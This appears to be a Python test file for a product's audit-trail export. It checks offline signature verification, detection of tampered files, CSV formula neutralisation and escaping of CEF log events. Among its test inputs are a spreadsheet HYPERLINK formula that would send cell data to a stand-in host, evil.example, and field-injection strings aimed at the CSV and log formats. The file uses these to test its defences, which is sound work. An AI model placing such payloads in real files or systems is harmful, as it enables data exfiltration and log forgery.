"""P17: a trail leaves the house as a file that can be verified without us, and that attacks nobody who opens it."""

import csv
import io
import json
import re
import subprocess
import sys
from base64 import b64decode
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest

from moorage.audit.exporting import begin_export, stream
from moorage.audit.formats import COLUMNS, FormatName
from moorage.audit.offline import verify_file
from moorage.audit.reading import EVERYTHING, Filter
from moorage.audit.trail import Act, record
from moorage.storage.database import Database
from moorage.vault.signing import SigningKey
from tests.audit.attacking import OLGA, act, add, attack, begin, bury, pen_in, rechain, turn_into_form_1
from tests.support.codebase import ROOT

NASTY = '=HYPERLINK("https://evil.example/?"&A1,"Werft")'


async def export(
    database: Database, team_id: UUID, name: FormatName = "ndjson", wanted: Filter = EVERYTHING, *, uses: bool = False
) -> str:
    opened = await begin_export(database, team_id, "Kanzlei Brandt", OLGA, name, wanted)
    pieces = [piece async for piece in stream(database, opened, _uses() if uses else None)]
    return b"".join(pieces).decode("utf-8")


async def _uses() -> AsyncIterator[str]:
    yield '{"type":"key_use","credential":"c","hour":"2026-11-27T03:00:00Z","purpose":"reply","uses":3}\n'


def verify(text: str, trusted: bytes | None = None) -> tuple[str | None, int | None]:
    found = verify_file(io.StringIO(text), trusted).finding
    return (None, None) if found is None else (found.kind, found.at)


def edit(text: str, number: int, **changes: Any) -> str:
    """Change a line of a file."""
    lines = text.splitlines(keepends=True)
    lines[number] = json.dumps({**json.loads(lines[number]), **changes}) + "\n"
    return "".join(lines)


async def test_a_whole_trail_is_verified_with_nothing_but_its_file(database: Database) -> None:
    team_id = await begin(database, 700)
    text = await export(database, team_id, uses=True)
    public = pen_in(database).keys.by_number[1]
    report = verify_file(io.StringIO(text), public)
    assert (report.finding, report.complete, report.entries) == (None, True, 701)
    assert (report.team_id, report.team_name, report.public_key) == (team_id, "Kanzlei Brandt", public)
    last = [json.loads(line) for line in text.splitlines()][-3]
    assert (last["action"], last["seq"]) == ("audit.exported", 701)
    assert json.loads(last["details"]) == {"what": "trail", "format": "ndjson", "filtered": False}


async def test_what_was_pruned_is_verified_by_its_tombstones(database: Database) -> None:
    team_id = await begin(database, 6)
    await bury(database, team_id, 2)
    await bury(database, team_id, 1)
    text = await export(database, team_id)
    assert verify(text) == (None, None)
    assert [json.loads(line)["type"] for line in text.splitlines()][:4] == ["export", "tombstone", "tombstone", "entry"]
    lines = text.splitlines(keepends=True)
    assert verify("".join(lines[:1] + lines[2:])) == ("tombstone_missing", 1)
    assert verify(edit(text, 2, keep_days=1)) == ("tombstone_forged", 3)


async def test_a_part_of_a_trail_is_verified_entry_by_entry(database: Database) -> None:
    team_id = await begin(database, 4)
    text = await export(database, team_id, wanted=Filter(text="werft 3"))
    report = verify_file(io.StringIO(text))
    assert (report.finding, report.complete, report.entries) == (None, False, 1)
    assert verify(edit(text, 1, object_name="Werft 4")) == ("edited", 3)


async def test_entries_of_before_the_signatures_are_proven_by_what_follows(database: Database) -> None:
    team_id = await begin(database, 3)
    await turn_into_form_1(database, team_id)
    report = verify_file(io.StringIO(await export(database, team_id)))
    assert (report.finding, report.entries, report.unsigned) == (None, 4, 3)


def without(text: str, number: int) -> str:
    lines = text.splitlines(keepends=True)
    return "".join(lines[:number] + lines[number + 1 :])


def swapped(text: str, one: int, other: int) -> str:
    lines = text.splitlines(keepends=True)
    lines[one], lines[other] = lines[other], lines[one]
    return "".join(lines)


def twice(text: str, number: int) -> str:
    lines = text.splitlines(keepends=True)
    return "".join([*lines[: number + 1], *lines[number:]])


def edit_head(text: str, **changes: Any) -> str:
    return edit(text, 0, head={**json.loads(text.splitlines()[0])["head"], **changes})


def edit_team(text: str) -> str:
    return edit(text, 0, team={"id": str(UUID(int=7)), "name": "x"})


FILE_ATTACKS: list[tuple[str, Any, tuple[str | None, int | None]]] = [
    ("a name edited", lambda text: edit(text, 2, object_name="x"), ("edited", 2)),
    ("a time edited", lambda text: edit(text, 2, at="2026-11-27T00:00:00.000000Z"), ("edited", 2)),
    ("details edited", lambda text: edit(text, 2, details="{}x"), ("edited", 2)),
    ("a signature taken out", lambda text: edit(text, 2, signature=None), ("forged", 2)),
    ("a hash edited", lambda text: edit(text, 2, hash="00" * 32), ("edited", 2)),
    ("an entry taken out", lambda text: without(text, 2), ("deleted", 2)),
    ("two entries swapped", lambda text: swapped(text, 2, 3), ("deleted", 2)),
    ("an entry twice", lambda text: twice(text, 2), ("extra", 2)),
    ("the end cut off", lambda text: "".join(text.splitlines(keepends=True)[:3]), ("file_incomplete", 3)),
    ("the last entry taken out", lambda text: edit(without(text, 5), 5, entries=4), ("cut_off", 5)),
    ("entries promised", lambda text: edit(text, 6, entries=9), ("file_incomplete", 6)),
    ("half a line", lambda text: text[: len(text) // 2], ("file_unreadable", 4)),
    ("something after the end", lambda text: text + text.splitlines()[1] + "\n", ("file_unreadable", 8)),
    ("no export", lambda _: "seq,at\r\n1,2\r\n", ("file_unreadable", 1)),
    ("nothing", lambda _: "", ("file_unreadable", 1)),
    ("another format", lambda text: edit(text, 0, format="moorage-audit/9"), ("file_unreadable", 1)),
    ("a deep hole", lambda _: "[" * 100_000, ("file_unreadable", 1)),
    ("no base64", lambda text: edit(text, 2, canonical="%%"), ("file_unreadable", 3)),
    ("the head edited", lambda text: edit_head(text, keep_days=90), ("head_forged", 5)),
    ("said to be a part", lambda text: edit(text, 0, filter={"action": "x"}), (None, None)),
    ("another team", edit_team, ("foreign", 1)),
]


@pytest.mark.parametrize(("change", "expected"), [pytest.param(*rest, id=name) for name, *rest in FILE_ATTACKS])
async def test_a_file_that_somebody_changed_is_found(
    database: Database, change: Any, expected: tuple[str | None, int | None]
) -> None:
    team_id = await begin(database, 4)
    assert verify(change(await export(database, team_id))) == expected


async def test_a_file_signed_by_somebody_else_is_found_by_who_knows_the_key(database: Database) -> None:
    """A file brings its keys along; only the key that was written down elsewhere says whose it is."""
    team_id = await begin(database, 2)
    text = await export(database, team_id)
    assert verify(text) == (None, None)
    assert verify(text, SigningKey.new().public) == ("key_not_yours", 1)


async def test_what_was_tampered_with_in_the_database_is_found_in_the_file(database: Database) -> None:
    team_id = await begin(database, 4)
    await rechain(database, team_id, 3, object_name="x")
    assert verify(await export(database, team_id)) == ("forged", 3)


async def test_what_was_cut_off_in_the_database_is_found_in_the_file(database: Database) -> None:
    team_id = await begin(database, 4)
    await attack(
        database,
        "DELETE FROM audit_entry WHERE seq > 2",
        "UPDATE audit_head SET seq = 2, hash = (SELECT hash FROM audit_entry WHERE seq = 2)",
    )
    assert verify(await export(database, team_id)) == ("head_changed", 3)


async def test_a_spreadsheet_finds_no_formula_in_the_table(database: Database) -> None:
    team_id = await begin(database)
    names = [NASTY, "+1", "-1", "@SUM(A1)", "\uff1d1", 'a "quoted", one', "plain"]
    for name in names:
        await add(database, team_id, name)
    text = await export(database, team_id, "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == COLUMNS
    assert [row[COLUMNS.index("object_name")] for row in rows[1:-1]] == [f"'{name}" for name in names[:5]] + names[5:]
    assert text.count("\r\n") == text.count("\n") == len(rows)
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


async def test_events_for_a_collector_can_not_be_broken_out_of(database: Database) -> None:
    team_id = await begin(database)
    nasty = replace(OLGA, name="Olga|suser=root act=x\\", client="198.51.100.9")
    async with database.write() as tx:
        await record(tx, team_id, nasty, act("a=b|c\\d", outcome="refused", details={"code": "x=y\nCEF:0|"}))
        await record(tx, team_id, replace(OLGA, client="2001:db8:1:2::3"), Act("team.renamed", "team", "t", "T"))
    lines = (await export(database, team_id, "cef")).splitlines()
    assert len(lines) == 3
    header, extension = _split_cef(lines[0])
    assert header[:4] == ["CEF:0", "Moorage", "Moorage", "0.1.0"]
    assert header[4:] == ["connection.created", "connection.created", "6"]
    assert extension["suser"] == "Olga|suser\\=root act\\=x\\\\"
    assert extension["cs4"] == "a\\=b|c\\\\d"
    assert extension["cs4Label"] == "objectName"
    assert extension["flexString1"] == "198.51.100.0/24"
    assert extension["outcome"] == "refused"
    assert int(extension["rt"]) > 1_700_000_000_000
    assert _split_cef(lines[1])[1]["flexString1"] == "2001:db8:1::/48"


def _split_cef(line: str) -> tuple[list[str], dict[str, str]]:
    """Read an event as a collector does: seven parts of a header, then keys before unescaped equal signs."""
    parts: list[str] = []
    start = 0
    for at, sign in enumerate(line):
        if sign == "|" and (at == 0 or line[at - 1] != "\\") and len(parts) < 7:
            parts.append(line[start:at])
            start = at + 1
    words = line[start:].split(" ")
    extension: dict[str, str] = {}
    name = ""
    for word in words:
        key, sign, value = word.partition("=")
        if sign and not key.endswith("\\"):
            name, extension[key] = key, value
        else:
            extension[name] += f" {word}"
    return parts, extension


async def test_an_export_is_on_record_before_anything_is_read(database: Database) -> None:
    team_id = await begin(database, 1)
    opened = await begin_export(database, team_id, "x", OLGA, "csv", Filter(outcome="failed"))
    assert opened.head.seq == 2
    await add(database, team_id)
    assert b"Werft" not in b"".join([piece async for piece in stream(database, opened)])


async def test_an_export_holds_one_batch_in_memory_and_no_transaction_between(database: Database) -> None:
    team_id = await begin(database, 1200)
    opened = await begin_export(database, team_id, "x", OLGA, "ndjson", EVERYTHING)
    pieces = stream(database, opened)
    sizes = []
    async for piece in pieces:
        sizes.append(piece.count(b"\n"))
        await add(database, team_id)  # would wait for ever behind an open transaction of the same process
    assert max(sizes) == 500
    assert sum(sizes) == 1203


def documented_key() -> str:
    found = re.search(r"--key (\S{44})", (ROOT / "docs" / "audit-export.md").read_text(encoding="utf-8"))
    assert found is not None
    return found[1]


def test_the_documented_example_is_verified_under_the_documented_key() -> None:
    """Once by us, once with nothing of ours: the program that the page gives."""
    file = ROOT / "docs" / "audit-export.ndjson"
    with file.open(encoding="utf-8") as lines:
        report = verify_file(lines, b64decode(documented_key()))
    assert (report.finding, report.complete, report.entries) == (None, True, 3)
    page = (ROOT / "docs" / "audit-export.md").read_text(encoding="utf-8")
    program = page.split("```python\n")[1].split("```")[0]
    command = [sys.executable, "-I", "-c", program, str(file), documented_key()]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.stdout == "3 entries, none missing, none changed\n", done.stderr


def test_the_documented_program_finds_what_was_changed(tmp_path: Path) -> None:
    page = (ROOT / "docs" / "audit-export.md").read_text(encoding="utf-8")
    text = (ROOT / "docs" / "audit-export.ndjson").read_text(encoding="utf-8")
    (tmp_path / "f").write_text(without(text, 3))
    command = [sys.executable, "-I", "-c", page.split("```python\n")[1].split("```")[0], str(tmp_path / "f")]
    assert subprocess.run([*command, documented_key()], capture_output=True, check=False).returncode == 1
